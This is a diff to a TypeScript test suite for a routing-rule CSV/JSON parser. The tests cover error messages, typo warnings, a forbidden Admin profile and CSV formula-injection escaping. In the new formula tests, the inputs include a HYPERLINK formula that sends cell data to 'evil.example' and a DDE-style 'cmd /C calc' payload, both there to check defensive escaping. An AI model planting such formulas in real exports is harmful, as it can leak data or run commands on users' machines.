@@ -83,7 +83,7 @@ describe("parseRulesCsv", () => {
   });
 
   it("reads a header-only file as no rules", () => {
-    expect(parseRulesCsv(`${HEADER}\n`)).toEqual({ rules: [], errors: [] });
+    expect(parseRulesCsv(`${HEADER}\n`)).toEqual({ rules: [], errors: [], warnings: [] });
   });
 
   it("reports every bad row with its line number and keeps the good ones", () => {
@@ -108,9 +108,12 @@ describe("parseRulesCsv", () => {
       { where: "line 7", ruleId: "bad-priority" },
       { where: "line 8", ruleId: "bad-phone" },
     ]);
-    expect(errors[0]?.message).toContain("routingProfile");
-    expect(errors[1]?.message).toContain("priority");
-    expect(errors[2]?.message).toContain("phone.type");
+    expect(errors[0]?.message).toBe("routingProfile is required");
+    expect(errors[1]?.message).toBe('priority must be a number, got "high"');
+    // A CSV row's issues name its columns.
+    expect(errors[2]?.message).toBe(
+      'phoneType must be "SOFT_PHONE" or "DESK_PHONE", got "CELL_PHONE"',
+    );
   });
 
   it("reports duplicate ruleIds and keeps the first", () => {
@@ -135,21 +138,27 @@ describe("parseRulesCsv", () => {
     expect(unknown.rules).toEqual([]);
     expect(unknown.errors).toHaveLength(1);
     expect(unknown.errors[0]?.where).toBe("line 1");
-    expect(unknown.errors[0]?.message).toContain('unknown column "costCentre"');
+    expect(unknown.errors[0]?.message).toContain(
+      'column "costCentre" is not a known column; columns are ruleId,',
+    );
+    const typo = parseRulesCsv("ruleId,routingProfile,securityProfiles,hierachyGroup\n");
+    expect(typo.errors[0]?.message).toContain(
+      'column "hierachyGroup" is not a known column; did you mean "hierarchyGroup"?',
+    );
 
     const missing = parseRulesCsv("ruleId,priority,routingProfile\nr1,0,RP\n");
     expect(missing.rules).toEqual([]);
     expect(missing.errors).toEqual([
       expect.objectContaining({
         where: "line 1",
-        message: expect.stringContaining('missing column "securityProfiles"'),
+        message: expect.stringContaining('column "securityProfiles" is required'),
       }),
     ]);
 
     const both = parseRulesCsv("ruleId,team\nr1,x\n");
     expect(both.errors).toHaveLength(1);
     expect(both.errors[0]?.message).toMatch(
-      /unknown column "team".*missing column "routingProfile".*missing column "securityProfiles"/,
+      /column "team" is not a known column; column "routingProfile" is required; column "securityProfiles" is required/,
     );
   });
 
@@ -172,6 +181,7 @@ describe("parseRulesCsv", () => {
     expect(parseRulesCsv("")).toEqual({
       rules: [],
       errors: [{ where: "line 1", message: "missing the header row" }],
+      warnings: [],
     });
   });
 });
@@ -187,6 +197,7 @@ describe("parseRulesJson and parseRuleFile", () => {
     expect(parseRulesJson('{"ruleId":"r1"}')).toEqual({
       rules: [],
       errors: [{ where: "file", message: "must be a JSON array of rules" }],
+      warnings: [],
     });
   });
 
@@ -206,6 +217,78 @@ describe("parseRulesJson and parseRuleFile", () => {
     ]);
     expect(errors[0]?.message).toContain("securityProfiles");
     expect(errors[2]?.message).toBe("duplicate ruleId (first at item 1)");
+  });
+
+  it("rejects unknown keys anywhere in a rule, and warns about unknown match keys", () => {
+    const items = [
+      { ruleId: "typo", routingProfile: "RP", securityProfiles: ["Agent"], hierachyGroup: "G" },
+      {
+        ruleId: "phone",
+        routingProfile: "RP",
+        securityProfiles: ["Agent"],
+        phone: { autoAcept: true },
+      },
+      {
+        ruleId: "dept",
+        routingProfile: "RP",
+        securityProfiles: ["Agent"],
+        match: { departmnet: "Care" },
+      },
+    ];
+    const { rules, errors, warnings } = parseRulesJson(JSON.stringify(items));
+    expect(errors).toEqual([
+      {
+        where: "item 1",
+        ruleId: "typo",
+        message: 'hierachyGroup is not a known key; did you mean "hierarchyGroup"?',
+      },
+      {
+        where: "item 2",
+        ruleId: "phone",
+        message: 'phone.autoAcept is not a known key; did you mean "autoAccept"?',
+      },
+    ]);
+    expect(rules.map((r) => r.ruleId)).toEqual(["dept"]);
+    expect(warnings).toEqual([
+      {
+        where: "item 3",
+        ruleId: "dept",
+        message: 'match.departmnet is not a known employee field; did you mean "department"?',
+      },
+    ]);
+  });
+
+  it("takes the known attributes as a parameter: a declared custom attribute is no warning", () => {
+    const text = JSON.stringify([
+      { ruleId: "cc", routingProfile: "RP", securityProfiles: ["A"], match: { costCenter: "1" } },
+    ]);
+    expect(parseRuleFile(text, "json").warnings).toHaveLength(1);
+    expect(
+      parseRuleFile(text, "json", { knownAttributes: ["department", "costCenter"] }).warnings,
+    ).toEqual([]);
+  });
+
+  it("rejects a rule naming a forbidden security profile (Admin by default)", () => {
+    const text = JSON.stringify([
+      { ruleId: "admins", routingProfile: "RP", securityProfiles: ["Agent", "admin"] },
+      { ruleId: "agents", routingProfile: "RP", securityProfiles: ["Agent"] },
+    ]);
+    const { rules, errors } = parseRuleFile(text, "json");
+    expect(rules.map((r) => r.ruleId)).toEqual(["agents"]);
+    expect(errors).toEqual([
+      {
+        where: "item 1",
+        ruleId: "admins",
+        message:
+          'security profile "admin" in rule admins is forbidden by FORBIDDEN_SECURITY_PROFILES; no rule may grant it',
+      },
+    ]);
+    const other = parseRuleFile(text, "json", { forbiddenSecurityProfiles: ["Agent"] });
+    expect(other.rules).toEqual([]);
+    const csv = `ruleId,routingProfile,securityProfiles\nr1,RP,Agent|Admin\n`;
+    expect(parseRuleFile(csv, "csv").errors[0]?.message).toContain(
+      'security profile "Admin" in rule r1 is forbidden',
+    );
   });
 
   it("chooses the format by file extension", () => {
@@ -238,12 +321,16 @@ const cellText = fc
         weight: 2,
         arbitrary: fc.constantFrom(",", '"', "\n", "\r\n", "\r", " ", "*", "é", "Jose\u0301"),
       },
+      // What a spreadsheet reads as a formula, and the apostrophe that marks a cell as text.
+      { weight: 2, arbitrary: fc.constantFrom("=", "+", "-", "@", "'", "\t", "|") },
       { weight: 1, arbitrary: fc.string({ unit: "grapheme", minLength: 1, maxLength: 1 }) },
     ),
     minLength: 1,
     maxLength: 12,
   })
-  .filter((text) => text.trim() !== "" && !text.includes("|"));
+  .filter((text) => text.trim() !== "");
+// "|" separates security profiles: no profile name holds one.
+const profileText = cellText.filter((text) => !text.includes("|"));
 
 const priorityArb = fc.oneof(
   fc.integer(),
@@ -258,7 +345,7 @@ const candidateArb = fc.record(
     enabled: fc.boolean(),
     match: fc.dictionary(fc.constantFrom(...MATCH_COLUMNS), cellText, { maxKeys: 6 }),
     routingProfile: cellText,
-    securityProfiles: fc.array(cellText, { minLength: 1, maxLength: 10 }),
+    securityProfiles: fc.array(profileText, { minLength: 1, maxLength: 10 }),
     hierarchyGroup: cellText,
     phone: fc.record({
       type: fc.constantFrom("SOFT_PHONE", "DESK_PHONE"),
@@ -290,14 +377,91 @@ describe("formatRulesCsv", () => {
     );
   });
 
-  it("round-trips through parseRulesCsv", () => {
+  it("round-trips through parseRulesCsv, formula characters and apostrophes included", () => {
     fc.assert(
       fc.property(rulesArb, (rules) => {
-        const parsed = parseRulesCsv(formatRulesCsv(rules));
+        const csv = formatRulesCsv(rules);
+        const parsed = parseRulesCsv(csv);
         expect(parsed.errors).toEqual([]);
         expect(parsed.rules).toEqual(rules);
+        for (const cell of csvCells(csv)) expect(cell).not.toMatch(/^[=+@\t\r]|^-(?!\d)/);
       }),
-      { numRuns: 400, seed: SEED },
+      { numRuns: 600, seed: SEED },
     );
   });
+
+  it("writes cells a spreadsheet would run as formulas as text, and reads them back", () => {
+    const hostile = rule({
+      ruleId: '=HYPERLINK("https://evil.example/?"&A1,"Click")',
+      priority: -5,
+      match: {
+        department: "@SUM(1+1)*cmd|' /C calc'!A0",
+        jobTitle: "+1-Agent",
+        jobCode: "-CC",
+        location: "'=already quoted",
+      },
+      routingProfile: "=1+1",
+      securityProfiles: ["@Agent", "Agent"],
+      hierarchyGroup: "-Team",
+    });
+    const csv = formatRulesCsv([hostile]);
+    const line = csv.split("\n")[1] as string;
+    expect(line).toBe(
+      [
+        '"\'=HYPERLINK(""https://evil.example/?""&A1,""Click"")"',
+        "-5",
+        "true",
+        "'@SUM(1+1)*cmd|' /C calc'!A0",
+        "'+1-Agent",
+        "'-CC",
+        "''=already quoted",
+        "",
+        "",
+        "'=1+1",
+        "'@Agent|Agent",
+        "'-Team",
+        "SOFT_PHONE",
+        "false",
+        "0",
+      ].join(","),
+    );
+    expect(parseRulesCsv(csv).rules).toEqual(
+      [withoutTags(hostile)].map((r) => ({ ...r, tags: {} })),
+    );
+  });
+
+  it("keeps an apostrophe that marks nothing, and reads a hand-written text marker", () => {
+    const plain = rule({ ruleId: "o'brien", match: { location: "'Austin" } });
+    expect(parseRulesCsv(formatRulesCsv([plain])).rules[0]).toMatchObject({
+      ruleId: "o'brien",
+      match: { location: "'Austin" },
+    });
+    const handWritten = `${HEADER}\n'=r1,0,true,'-x,,,,,,Basic,Agent,,,,\n`;
+    expect(parseRulesCsv(handWritten).rules[0]).toMatchObject({
+      ruleId: "=r1",
+      match: { department: "-x" },
+    });
+  });
 });
+
+/** Every cell of a CSV the way a spreadsheet sees it: unquoted, doubled quotes undone. */
+const csvCells = (csv: string): string[] => {
+  const cells: string[] = [];
+  let cell = "";
+  let quoted = false;
+  for (let i = 0; i < csv.length; i++) {
+    const char = csv[i];
+    if (quoted) {
+      if (char === '"' && csv[i + 1] === '"') {
+        cell += '"';
+        i++;
+      } else if (char === '"') quoted = false;
+      else cell += char;
+    } else if (char === '"') quoted = true;
+    else if (char === "," || char === "\n") {
+      cells.push(cell);
+      cell = "";
+    } else cell += char;
+  }
+  return cells;
+};
